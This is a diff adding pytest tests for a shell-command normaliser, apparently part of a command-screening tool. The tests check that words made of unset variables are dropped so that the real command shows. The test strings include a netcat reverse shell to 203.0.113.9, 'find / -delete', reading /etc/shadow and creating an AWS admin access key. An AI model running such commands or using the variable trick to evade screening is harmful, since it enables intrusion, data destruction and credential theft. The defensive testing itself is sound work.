@@ -87,6 +87,34 @@ def test_command_names_spelled_with_variables_or_globs_are_resolved(typed: str, 
     assert seen in segments(typed)
 
 
+@pytest.mark.parametrize(
+    ("typed", "seen"),
+    [
+        ("$u aws iam create-access-key --user-name admin", "aws iam create-access-key --user-name admin"),
+        ("${x}$y find / -delete", "find / -delete"),
+        ("sudo $u cat /etc/shadow", "cat /etc/shadow"),
+    ],
+)
+def test_a_word_of_unset_variables_is_no_word_and_the_next_is_the_command(typed: str, seen: str) -> None:
+    assert seen in segments(typed)
+
+
+def test_unset_variable_words_are_dropped_from_the_whole_line_too() -> None:
+    assert normalize_command("$u bash -i 2>&1 | $u nc 203.0.113.9 443").whole == "bash -i 2>&1 | nc 203.0.113.9 443"
+
+
+@pytest.mark.parametrize(
+    ("typed", "seen"),
+    [
+        ("$EDITOR /etc/hosts", ("$EDITOR /etc/hosts",)),  # upper case: from the environment, which is not seen
+        ("u=vim; $u /etc/hosts", ("u=vim", "vim /etc/hosts", "$u /etc/hosts")),  # set on the line: expanded
+        ("$u", ("$u",)),  # alone, nothing follows
+    ],
+)
+def test_variables_that_may_be_set_are_not_dropped(typed: str, seen: tuple[str, ...]) -> None:
+    assert segments(typed) == seen
+
+
 def test_a_glob_without_letters_is_not_resolved() -> None:
     assert segments("* * * * * root x") == ("* * * * * root x",)
 
